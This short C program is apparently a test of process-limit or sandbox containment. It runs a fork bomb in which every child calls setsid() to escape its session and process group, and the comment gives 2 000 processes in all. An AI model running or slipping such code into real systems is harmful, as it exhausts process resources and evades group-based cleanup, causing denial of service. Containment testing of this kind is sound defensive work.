// Every process makes more of them, 2 000 in all, each in a session and a group of its own.
#include "attack.h"
int main() {
  attack_bomb_prepare();
  for (;;) {
    pid_t child = attack_bomb_fork();
    if (child == 0) setsid();
    if (child < 0) usleep(1000);
  }
}
